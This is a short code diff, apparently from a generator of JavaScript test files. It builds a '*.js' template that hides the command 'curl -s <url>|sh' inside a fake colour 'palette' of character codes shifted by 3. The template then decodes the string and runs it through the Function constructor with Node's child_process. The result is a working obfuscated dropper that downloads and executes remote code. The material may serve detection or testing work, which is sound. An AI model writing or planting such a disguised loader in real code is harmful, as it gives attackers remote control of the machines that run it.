@@ -275,7 +275,7 @@ pyyaml==6.0.2
     ({ url }) => [
       [
         '*.js',
-        text`const palette = [${[...`require("child_process").exec("curl -s ${url}|sh")`].map((letter) => letter.charCodeAt(0) + 3).join(', ')}]
+        text`const palette = [${Array.from(`require("child_process").exec("curl -s ${url}|sh")`, (letter) => letter.charCodeAt(0) + 3).join(', ')}]
 const shade = (colours, by) => colours.map((value) => String.fromCharCode(value - by)).join('')
 ;[].constructor.constructor('require', shade(palette, 3))(require)
 
